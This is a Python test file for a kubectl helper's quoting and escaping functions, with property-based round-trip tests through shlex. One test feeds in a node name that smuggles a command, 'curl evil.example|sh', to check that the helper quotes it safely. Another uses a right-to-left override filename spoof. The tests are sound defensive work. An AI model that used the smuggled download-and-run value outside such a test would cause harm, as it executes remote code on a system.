"""Quoting and escaping of names that come from a cluster or a file."""

from __future__ import annotations

import shlex

from hypothesis import given
from hypothesis import strategies as st

from kubectl_kcache.text import command, escape, quote


def test_plain_names_stay_plain():
    assert command("kubectl", "-n", "team-a", "get", "pod", "model-1.a_b") == "kubectl -n team-a get pod model-1.a_b"


def test_hostile_name_is_one_word():
    line = command("kubectl", "uncordon", "n1; curl evil.example|sh #")
    assert line == "kubectl uncordon 'n1; curl evil.example|sh #'"
    assert shlex.split(line) == ["kubectl", "uncordon", "n1; curl evil.example|sh #"]


def test_iterables_expand_to_several_words():
    assert command("kubectl", "label", "node", "n", ["a=b", "c d=e"]) == "kubectl label node n a=b 'c d=e'"


@given(st.text())
def test_any_value_round_trips_through_the_shell(value):
    assert shlex.split(command("echo", value)) == ["echo", value]
    assert shlex.split(quote(value)) == [value]


def test_escape_controls_and_bidi():
    assert escape("a\x1b[31mred") == "a\\x1b[31mred"
    assert escape("evil\u202egnp.exe") == "evil\\u202egnp.exe"
    assert escape("nul\x00") == "nul\\x00"
    assert escape("two\nlines\tx") == "two\\nlines\\tx"
    assert escape("two\nlines", keep_newlines=True) == "two\nlines"
    assert escape("plain ünïcode ✓") == "plain ünïcode ✓"


@given(st.text())
def test_escaped_text_has_no_control_characters(value):
    out = escape(value)
    assert not any(ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F for ch in out)
    assert not any(ch in out for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff")
